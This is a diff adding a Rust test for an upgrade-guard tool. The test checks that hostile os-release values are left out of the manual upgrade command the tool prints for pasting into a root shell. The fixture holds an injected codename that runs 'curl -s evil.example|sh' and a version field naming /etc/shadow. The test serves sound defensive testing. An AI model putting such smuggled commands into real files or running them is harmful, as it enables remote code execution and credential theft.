@@ -751,6 +751,30 @@ fn apt_is_refused_on_another_root() {
     assert!(text(&out.stdout).contains("# REFUSED on this root"));
 }
 
+/// On a `--root` os-release is the guarded system's (a guest image's,
+/// hostile if need be), and its codename goes into the manual command the
+/// debian-upgrade walk shows to be pasted into a root shell: a codename
+/// that is no os-release(5) word is left out, never shown in it.
+#[test]
+fn os_release_values_that_are_no_words_are_not_facts() {
+    let e = env();
+    std::fs::write(
+        e.root.join("etc/os-release"),
+        "ID=debian\nVERSION_ID=\"-f/etc/shadow\"\n\
+         VERSION_CODENAME=\"bookworm /dev/null; curl -s evil.example|sh; : \"\n",
+    )
+    .unwrap();
+    std::fs::create_dir_all(e.root.join("var/lib/dpkg")).unwrap();
+    std::fs::write(e.root.join("var/lib/dpkg/status"), "").unwrap();
+    let out = e.guard(&["run", "debian-upgrade", "--dry-run"], None);
+    let script = text(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(!script.contains("curl"), "{script}");
+    assert!(!script.contains("/etc/shadow"), "{script}");
+    assert!(script.contains("grep -rlsw <os_codename> "), "{script}");
+    assert!(script.contains("os_id = debian"), "{script}");
+}
+
 /// A stand-in for zypper: `dup` deletes /etc/pam.d/imap, as the real
 /// upgrade did, and fails until ROOT/dup-fixed exists; everything else
 /// succeeds. Every call is logged to ROOT/zypper.log.
